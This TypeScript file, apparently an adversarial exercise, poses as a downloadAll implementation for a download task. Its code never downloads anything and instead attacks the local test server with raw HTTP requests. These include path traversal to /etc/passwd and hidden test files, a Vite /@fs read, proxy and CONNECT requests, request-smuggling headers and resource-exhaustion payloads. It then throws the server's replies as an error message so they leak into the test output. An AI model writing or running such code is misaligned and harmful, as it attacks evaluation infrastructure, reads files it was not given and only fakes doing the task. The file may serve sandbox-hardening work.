// Exercise: 03
// Tries: to ask the test server for more than its files: other names, other hosts, broken and endless requests.
import { connect } from "node:net";
import type { Saved } from "@meanwhile/download";

const NAMES = [
  "/",
  "/../../etc/passwd",
  "/%2e%2e/hidden.test.ts",
  "/@fs/etc/passwd?raw",
  "/__vitest__/",
  "//example.com/x",
  "*",
];
const REQUESTS = [
  ...NAMES.map((name) => `GET ${name} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`),
  "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n".repeat(100),
  "POST /archivo1 HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000000\r\n\r\nx",
  "POST /archivo1 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nffffffff\r\n",
  "CONNECT example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n",
  "GET /archivo1 HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
  "GET /archivo1 HTTP/1.1\r\nHost: x\r\nRange: bytes=" + "0-0,".repeat(3000) + "\r\n\r\n",
  `GET / HTTP/1.1\r\n${"X-Endless: x\r\n".repeat(100_000)}`,
  "\0\u0016\u0003\u0001",
];

export async function downloadAll(urls: string[], _directory: string): Promise<Saved[]> {
  const port = Number(new URL(urls[0] ?? "http://127.0.0.1:1").port);
  const answers = REQUESTS.map(
    async (request) =>
      new Promise<string>((done) => {
        let text = "";
        const socket = connect(port, "127.0.0.1", () => socket.write(request));
        socket
          .on("data", (bytes) => (text += bytes))
          .on("error", () => done(text))
          .on("close", () => done(text));
        setTimeout(() => socket.destroy(), 500);
      }),
  );
  throw new Error((await Promise.all(answers)).join("\n").slice(0, 10_000));
}
